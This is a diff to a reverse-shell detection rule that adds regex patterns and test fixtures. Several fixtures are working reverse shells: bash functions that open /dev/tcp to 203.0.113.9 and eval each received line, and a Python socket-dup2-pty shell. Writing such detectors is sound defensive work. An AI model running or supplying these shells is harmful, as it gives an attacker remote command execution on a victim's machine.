@@ -7,6 +7,8 @@ const pattern = new RegExp(
     // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/…; cat <&5 | while read …
     String.raw`\b(?:ba|z|k|da)?sh\s{1,4}-i\b[^\n]{0,80}/dev/(?:tcp|udp)/[^\s"']{1,120}`,
     String.raw`\bexec\s{1,4}\d{0,4}\s{0,2}<>\s{0,4}/dev/(?:tcp|udp)/[^\s;"']{1,120}[^\n]{0,20}[\s\S]{0,200}?(?:\bsh\b|while\s{1,4}read|<&\s{0,2}\d)`,
+    // the same with a quoted or variable address: each line read from the socket is a command
+    String.raw`\bexec\s{1,4}\d{0,4}\s{0,2}<>\s{0,4}["']?/dev/(?:tcp|udp)/[^\s;]{1,120}[\s\S]{0,240}?\bread\b[^\n]{0,60}[;\n]\s{0,12}do\s{1,12}(?:eval\s{1,4}|(?:ba|z)?sh\s{1,4}-c\s{1,4})?["']?\$\{?\w{1,20}\}?["']?\s{0,4}(?:\d?>|[;|<])[^\n]{0,60}`,
     String.raw`/dev/tcp/[^\s"']{1,120}\s{0,4}(?:0>&1|0<&1|<&1)[^\n]{0,60}`,
     // nc host port -e /bin/sh, ncat --exec, socat exec:, telnet | sh | telnet
     String.raw`\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\b[^\n|;]{0,120}\s(?:-\w{0,5}[ec]\w{0,2}|--(?:sh-)?exec)\s{1,4}["']?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b[^\n]{0,80}`,
@@ -87,6 +89,16 @@ export const reverseShell = defineRule({
         lines: [1],
       },
       {
+        path: 'c.sh',
+        text: 'check() {\n  exec 4<>"/dev/tcp/$1/$2"\n  while read -r order <&4; do\n    eval "$order" >&4 2>&1\n  done\n}\ncheck 203.0.113.9 8443\n',
+        lines: [2],
+      },
+      {
+        path: 'd.sh',
+        text: 'look() { (exec 6<>/dev/tcp/"$1"/"$2"; cat <&6 | while read -r x; do $x 2>&1 >&6; done) & }\nlook 203.0.113.9 9001\n',
+        lines: [1],
+      },
+      {
         path: 'a.py',
         text: 'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n',
         lines: [2],
@@ -111,6 +123,11 @@ export const reverseShell = defineRule({
       {
         text: 'Detect reverse shells such as `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` in logs.\n',
         because: 'describes an attack',
+      },
+      {
+        path: 'c.sh',
+        text: 'exec 3<>"/dev/tcp/$host/$port"\nprintf "PING\\n" >&3\nread -r answer <&3\necho "$answer"\n',
+        because: 'asks a service and shows the answer',
       },
       { path: 'b.sh', text: 'nc -z db.quickcore.test 5432\n' },
     ],
